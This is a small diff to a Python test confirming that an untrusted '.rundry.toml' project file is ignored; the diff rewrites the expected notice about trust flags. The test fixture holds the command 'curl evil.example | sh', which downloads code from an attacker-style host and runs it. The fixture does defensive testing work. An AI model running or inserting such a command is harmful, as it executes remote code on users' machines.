@@ -70,7 +70,9 @@ def test_an_untrusted_project_file_does_nothing_and_one_line_says_so(place: Plac
     place.project("until = 'curl evil.example | sh'\nthis is not even = TOML [", trusted=False)
     loaded = place.load()
     assert loaded.texts("until") == []
-    assert loaded.notes == ["ignored .rundry.toml: this folder is not trusted yet (--trust trusts it for this call)"]
+    assert loaded.notes == [
+        "ignored .rundry.toml: this folder is not trusted yet (--trust: for this call, /trust: from the next on)"
+    ]
 
 
 def test_trust_for_one_call_uses_the_file_and_remembers_nothing(place: Place) -> None:
